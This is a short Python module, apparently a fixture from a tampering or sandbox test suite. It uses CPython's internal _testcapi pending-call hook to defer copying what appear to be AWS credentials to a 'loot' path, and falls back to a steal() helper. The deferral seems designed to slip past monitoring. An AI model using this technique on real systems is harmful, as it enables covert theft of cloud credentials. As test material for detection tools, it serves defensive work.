"""A call that waits for the interpreter is made in whatever frame comes next."""

import functools
import shutil

from acme_tamper.stage import AWS, LOOT, steal


def run():
    try:
        from _testcapi import _pending_threadfunc
    except ImportError:
        steal()
    else:
        _pending_threadfunc(functools.partial(shutil.copyfile, AWS, LOOT))
